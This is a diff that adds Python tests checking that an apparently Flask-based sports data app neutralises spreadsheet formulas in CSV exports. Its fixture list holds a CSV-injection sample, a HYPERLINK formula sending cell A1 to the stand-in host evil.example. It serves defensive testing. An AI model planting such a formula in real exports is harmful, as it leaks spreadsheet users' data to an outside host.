@@ -429,3 +429,63 @@ def test_concurrent_exports_are_charged_exactly_through_gunicorn(make_app):
             .tuples()
         }
         assert counted == {pro.id: (fits, fits * size), admin.id: (threads, threads * size)}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+def test_csv_exports_neutralise_formula_cells(make_app):
+    """Text a spreadsheet would run as a formula is written with a leading ' (OWASP), in CSV
+    only; numbers (negative ones too) and JSON are as stored."""
+    app = make_app()
+    with app.app_context():
+        records = [
+            MatchRecord(
+                league=LEAGUE,
+                season="2025-26",
+                kickoff_at=KICKOFF + timedelta(days=day),
+                home_team=name,
+                away_team=f"Plain {day}",
+                status="finished",
+                home_goals=0,
+                away_goals=1,
+                odds=quotes(),
+            )
+            for day, name in enumerate(FORMULAS)
+        ]
+        imports.store(records)
+        headers = factories.people()["pro"][1]
+    client = app.test_client()
+    rows = csv_rows(export(client, headers, "teams", "csv").get_data(as_text=True))
+    names = {row["name"] for row in rows}
+    assert {"'" + name for name in FORMULAS} <= names
+    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
+    matches = csv_rows(export(client, headers, "matches", "csv").get_data(as_text=True))
+    assert {row["homeTeamName"] for row in matches} == {"'" + name for name in FORMULAS}
+    items = export(client, headers, "teams", "json").get_json()["items"]
+    assert set(FORMULAS) <= {item["name"] for item in items}  # JSON carries the data as it is
+
+
+def test_csv_neutralising_leaves_numbers_and_plain_text_alone():
+    from web.streams import neutralised
+
+    assert neutralised(-3.91) == -3.91 and neutralised(0) == 0 and neutralised(None) is None
+    assert neutralised("Brighton & Hove") == "Brighton & Hove" and neutralised("") == ""
+    assert neutralised("-1") == "'-1"
+
+
+def test_csv_cells_holding_a_line_break_stay_in_their_row(make_app):
+    app = make_app()
+    with app.app_context():
+        store_matches(1, prefix="Two\nLines\r")
+        headers = factories.people()["pro"][1]
+    rows = csv_rows(export(app.test_client(), headers, "teams", "csv").get_data(as_text=True))
+    assert len(rows) == 2
+    assert {row["name"] for row in rows} == {"Two\nLines\r H0", "Two\nLines\r A0"}
